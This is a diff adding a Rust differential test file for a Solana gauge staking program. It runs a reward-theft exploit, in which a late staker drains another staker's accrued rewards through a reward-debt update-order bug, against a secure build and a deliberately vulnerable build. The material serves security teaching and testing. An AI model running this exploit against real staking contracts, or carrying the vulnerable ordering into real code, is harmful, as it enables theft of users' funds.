@@ -0,0 +1,224 @@
+// Differential tests: gauge-secure vs gauge-vulnerable
+//
+// Each exploit script runs against both builds in one LiteSVM and must be
+// rejected by the secure build and accepted by the vulnerable one.
+// The test_feature_* tests replay them against gauge-secure rebuilt with the
+// matching vuln-* feature, which must be the only build to accept them.
+//
+// HOW TO RUN THESE TESTS:
+// The secure .so and its feature builds must be built first:
+//   ./build-vuln-matrix.sh gauge-secure
+//   cd programs/amm/gauge-vulnerable
+//   cargo test-sbf --test differential
+
+use litesvm::{types::TransactionResult, LiteSVM};
+use litesvm_token::{CreateAssociatedTokenAccount, CreateMint, MintTo};
+use solana_sdk::{
+    instruction::{AccountMeta, Instruction},
+    native_token::LAMPORTS_PER_SOL,
+    pubkey::Pubkey,
+    signature::{Keypair, Signer},
+};
+use solana_system_interface::program::ID as system_program;
+use soteria_test_kit::*;
+use spl_associated_token_account::get_associated_token_address;
+
+// declare_id! of gauge-secure
+const SECURE_PROGRAM_ID: Pubkey =
+    solana_sdk::pubkey!("D5RcoZJXmGbeETbNQF3U5HQ2smHGSQvLn6QG67uNsfw4");
+const VULNERABLE_PROGRAM_ID: Pubkey = Pubkey::new_from_array(gauge_vulnerable::ID.to_bytes());
+
+const PAIR: ProgramPair = ProgramPair {
+    secure: SECURE_PROGRAM_ID,
+    vulnerable: VULNERABLE_PROGRAM_ID,
+};
+
+const EMISSION_RATE: u64 = 1_000_000;
+const REWARD_AMOUNT: u64 = 1_000_000_000;
+const STAKE: u64 = 100_000_000;
+
+fn setup_pair() -> LiteSVM {
+    PAIR.load(
+        "../gauge-secure/target/deploy/gauge_secure.so",
+        "target/deploy/gauge_vulnerable.so",
+    )
+}
+
+// Baseline gauge-secure and its build with one vuln-* feature, each in its own SVM
+fn setup_feature(feature: &'static str) -> (FeatureVariant, LiteSVM, LiteSVM) {
+    let variant = FeatureVariant { program_id: SECURE_PROGRAM_ID, feature };
+    let (baseline, variant_svm) = variant.load(
+        "../gauge-secure/target/deploy/gauge_secure.so",
+        variant.so_path("../gauge-secure", "gauge_secure"),
+    );
+    (variant, baseline, variant_svm)
+}
+
+// Gauge over fresh LP and reward mints (6 decimals) on one build,
+// emitting 1 token per second for 1000 seconds
+struct Gauge {
+    program_id: Pubkey,
+    mint_authority: Keypair,
+    lp_mint: Pubkey,
+    reward_mint: Pubkey,
+    gauge: Pubkey,
+}
+
+impl Gauge {
+    fn new(svm: &mut LiteSVM, program_id: &Pubkey) -> Self {
+        let mint_authority = create_funded_account(svm, 10 * LAMPORTS_PER_SOL);
+        let lp_mint = CreateMint::new(svm, &mint_authority).decimals(6).send().unwrap();
+        let reward_mint = CreateMint::new(svm, &mint_authority).decimals(6).send().unwrap();
+        let funder_ata = CreateAssociatedTokenAccount::new(svm, &mint_authority, &reward_mint)
+            .send()
+            .unwrap();
+        MintTo::new(svm, &mint_authority, &reward_mint, &funder_ata, REWARD_AMOUNT).send().unwrap();
+
+        let (gauge, _) = Pubkey::find_program_address(
+            &[b"gauge", lp_mint.as_ref(), reward_mint.as_ref()],
+            program_id,
+        );
+
+        let mut data = anchor_discriminator("create_gauge").to_vec();
+        data.extend_from_slice(&EMISSION_RATE.to_le_bytes());
+        data.extend_from_slice(&REWARD_AMOUNT.to_le_bytes());
+
+        let ix = Instruction {
+            program_id: *program_id,
+            accounts: vec![
+                AccountMeta::new(mint_authority.pubkey(), true),
+                AccountMeta::new_readonly(lp_mint, false),
+                AccountMeta::new_readonly(reward_mint, false),
+                AccountMeta::new(gauge, false),
+                AccountMeta::new(get_associated_token_address(&gauge, &lp_mint), false),
+                AccountMeta::new(get_associated_token_address(&gauge, &reward_mint), false),
+                AccountMeta::new(funder_ata, false),
+                AccountMeta::new_readonly(spl_token::ID, false),
+                AccountMeta::new_readonly(spl_associated_token_account::ID, false),
+                AccountMeta::new_readonly(system_program, false),
+            ],
+            data,
+        };
+        send_ix(svm, ix, &mint_authority).expect("Gauge creation should succeed on both builds");
+
+        Gauge {
+            program_id: *program_id,
+            mint_authority,
+            lp_mint,
+            reward_mint,
+            gauge,
+        }
+    }
+
+    // Staker holding 1000 LP tokens and an empty reward account
+    fn create_staker(&self, svm: &mut LiteSVM) -> Keypair {
+        let staker = create_funded_account(svm, 5 * LAMPORTS_PER_SOL);
+        let lp_ata = CreateAssociatedTokenAccount::new(svm, &staker, &self.lp_mint).send().unwrap();
+        MintTo::new(svm, &self.mint_authority, &self.lp_mint, &lp_ata, 1_000_000_000).send().unwrap();
+        CreateAssociatedTokenAccount::new(svm, &staker, &self.reward_mint).send().unwrap();
+        staker
+    }
+
+    fn stake_ix(&self, owner: &Pubkey, amount: u64) -> Instruction {
+        let (stake_position, _) = Pubkey::find_program_address(
+            &[b"stake", self.gauge.as_ref(), owner.as_ref()],
+            &self.program_id,
+        );
+
+        let mut data = anchor_discriminator("stake_lp").to_vec();
+        data.extend_from_slice(&amount.to_le_bytes());
+
+        Instruction {
+            program_id: self.program_id,
+            accounts: vec![
+                AccountMeta::new(*owner, true),
+                AccountMeta::new(self.gauge, false),
+                AccountMeta::new_readonly(self.lp_mint, false),
+                AccountMeta::new_readonly(self.reward_mint, false),
+                AccountMeta::new(stake_position, false),
+                AccountMeta::new(get_associated_token_address(&self.gauge, &self.lp_mint), false),
+                AccountMeta::new(get_associated_token_address(&self.gauge, &self.reward_mint), false),
+                AccountMeta::new(get_associated_token_address(owner, &self.lp_mint), false),
+                AccountMeta::new(get_associated_token_address(owner, &self.reward_mint), false),
+                AccountMeta::new_readonly(spl_token::ID, false),
+                AccountMeta::new_readonly(system_program, false),
+            ],
+            data,
+        }
+    }
+}
+
+// V001: A fresh stake is paid for emissions from before it existed
+struct LateStakeRewardTheft;
+
+struct LateStakeState {
+    gauge: Gauge,
+    attacker: Keypair,
+    // Reward account the attacker cashes out to
+    collector: Pubkey,
+}
+
+impl DifferentialScenario for LateStakeRewardTheft {
+    type State = LateStakeState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V001",
+            title: "Reward Theft - Reward Debt Update Order",
+            severity: Severity::Critical,
+            lesson: "Settle pending rewards against the old stake, then add to it and reset reward_debt",
+        }
+    }
+
+    fn setup(&self, svm: &mut LiteSVM, program_id: &Pubkey) -> LateStakeState {
+        let gauge = Gauge::new(svm, program_id);
+        let alice = gauge.create_staker(svm);
+        let attacker = gauge.create_staker(svm);
+
+        let ix = gauge.stake_ix(&alice.pubkey(), STAKE);
+        send_ix(svm, ix, &alice).expect("Alice's stake should succeed on both builds");
+        advance_time(svm, 500);
+
+        let collector = CreateAssociatedTokenAccount::new(svm, &gauge.mint_authority, &gauge.reward_mint)
+            .owner(&Pubkey::new_unique())
+            .send()
+            .unwrap();
+
+        LateStakeState { gauge, attacker, collector }
+    }
+
+    // Stake, then move Alice's 500 accrued rewards out in the same transaction:
+    // only possible if the stake paid them to the attacker
+    fn exploit(
+        &self,
+        svm: &mut LiteSVM,
+        _program_id: &Pubkey,
+        state: &mut LateStakeState,
+    ) -> TransactionResult {
+        let LateStakeState { gauge, attacker, collector } = state;
+
+        let stake_ix = gauge.stake_ix(&attacker.pubkey(), 2 * STAKE);
+        let cash_out_ix = spl_token::instruction::transfer(
+            &spl_token::ID,
+            &get_associated_token_address(&attacker.pubkey(), &gauge.reward_mint),
+            collector,
+            &attacker.pubkey(),
+            &[],
+            500_000_000,
+        )
+        .unwrap();
+        send_tx(svm, &[stake_ix, cash_out_ix], attacker, &[&*attacker])
+    }
+}
+
+#[test]
+fn test_differential_late_stake_reward_theft() {
+    let mut svm = setup_pair();
+    run_differential(&mut svm, &PAIR, &LateStakeRewardTheft);
+}
+
+#[test]
+fn test_feature_late_reward_settlement() {
+    let (variant, mut baseline, mut variant_svm) = setup_feature("vuln-late-reward-settlement");
+    run_feature_differential(&mut baseline, &mut variant_svm, &variant, &LateStakeRewardTheft);
+}